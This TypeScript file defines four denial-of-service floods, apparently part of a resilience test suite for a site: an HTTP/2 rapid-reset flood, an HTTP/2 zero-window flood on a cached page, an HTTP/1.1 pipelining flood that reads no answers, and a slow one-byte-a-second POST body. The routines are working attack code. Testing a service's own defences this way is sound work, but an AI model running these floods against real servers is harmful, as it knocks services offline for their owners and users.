import type { Socket } from 'node:net';
import { clientPreface, getFrame, pingFrame, resetFrame, streamIds } from '../../../shared/http/testing';
import { keepConnections, type FloodTarget } from './connect';

/** Repeats a step every `ms` until a connection is closed. */
const repeat = (socket: Socket, ms: number, step: () => void): void => {
  const timer = setInterval(step, ms);
  socket.once('close', () => clearInterval(timer));
};

/** Rendered for the first visitor, and cached for the next ones. */
const CACHED_PAGE = '/home';
/** Milliseconds after which a client whose connection the server leaves open begins anew. */
const RENEW_MS = 2000;
/** What the site allows on one connection. */
const STREAMS = 128;

/** Ten connections of HTTP/2 that cancel each request right after it was sent. */
const reset = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'h2', 10, (socket) => {
    socket.resume();
    socket.write(clientPreface());
    let next = 1;
    const send = (): void => {
      if (socket.destroyed) return;
      const ids = streamIds(200, next);
      next += 400;
      const frames = ids.flatMap((id) => [getFrame(id, `/cars?keyword=${id}`), resetFrame(id)]);
      if (socket.write(Buffer.concat(frames))) setTimeout(send, 5);
      else socket.once('drain', send);
    };
    send();
  });

/** Connections of HTTP/2 that ask for a cached page on every stream, and let no byte of the answers come. */
const window0 = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'h2', 200, (socket) => {
    socket.resume();
    socket.write(Buffer.concat([clientPreface(0), ...streamIds(STREAMS).map((id) => getFrame(id, CACHED_PAGE))]));
    repeat(socket, 500, () => socket.write(pingFrame()));
    setTimeout(() => socket.destroy(), RENEW_MS);
  });

/** Connections of HTTP/1.1 that send many requests for a cached page at once, and read no answer. */
const pipeline = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'http/1.1', 200, (socket) => {
    socket.pause();
    socket.write(`GET ${CACHED_PAGE} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(30));
    setTimeout(() => socket.destroy(), RENEW_MS);
  });

/** Connections that send the body of a call a byte a second. */
const slowBodies = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'http/1.1', 1000, (socket) => {
    socket.resume();
    socket.write('POST /tech/public/sendEmailCode HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5000\r\n\r\n');
    repeat(socket, 1000, () => socket.write('x'));
  });

export const floods = { reset, window0, pipeline, slowBodies };
export type FloodName = keyof typeof floods;
export const isFloodName = (name: string): name is FloodName => name in floods;
